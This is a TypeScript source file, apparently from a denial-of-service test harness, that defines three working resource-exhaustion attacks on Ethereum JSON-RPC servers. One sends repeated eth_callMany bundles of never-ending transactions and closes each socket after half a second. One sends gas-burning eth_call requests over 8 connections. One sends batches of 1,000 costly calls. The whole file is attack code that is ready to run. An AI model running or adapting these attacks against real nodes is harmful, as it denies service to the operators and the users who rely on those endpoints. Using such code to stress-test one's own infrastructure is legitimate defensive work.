import { costlyCode } from "../attacker/costly-code.ts";
import { batch, call, post, times } from "../attacker/requests.ts";
import type { Attack } from "./attack.ts";

/** Requests that cost the server more than the client. */

const codes = Object.values(costlyCode);
/** the gas cap of calls */
const GAS = "0x2faf080";

/** Bundles of about 35 kB: 350 transactions that never end. */
const callManyBody = call("eth_callMany", [[{ transactions: times(350, () => ({ data: costlyCode.jumps, gas: GAS })) }]]);

export const callManyClosed: Attack = {
  name: "callmany-closed",
  what: "three eth_callMany of 35 kB at once, their sockets closed after half a second, again and again",
  bounds: { connections: 12 },
  async run({ http }, attacker) {
    await Promise.all(
      times(3, async () => {
        while (!attacker.signal.aborted) {
          const socket = await attacker.connect(http);
          if (socket) {
            attacker.send(socket, post(callManyBody));
            attacker.count("requests");
          }
          await attacker.pause(500);
          socket?.destroy();
        }
      }),
    );
  },
};

export const costlyCalls: Attack = {
  name: "costly-calls",
  what: "eth_call of code that burns 50 Mgas on 8 connections",
  bounds: { connections: 8 },
  run: ({ http }, attacker) =>
    attacker.onConnections(http, 8, (socket) => {
      const data = codes[attacker.random(codes.length)]!;
      return attacker.exchange(socket, post(call("eth_call", [{ data, gas: GAS }, "latest"])));
    }),
};

export const batchedCalls: Attack = {
  name: "batched-calls",
  what: "batches of 1,000 eth_call that burn 50 Mgas each, on 4 connections",
  bounds: { connections: 4 },
  run: ({ http }, attacker) =>
    attacker.onConnections(http, 4, (socket, lane) => {
      const data = codes[(lane + attacker.random(codes.length)) % codes.length]!;
      return attacker.exchange(socket, post(batch(times(1000, (id) => call("eth_call", [{ data, gas: GAS }], id)))));
    }),
};
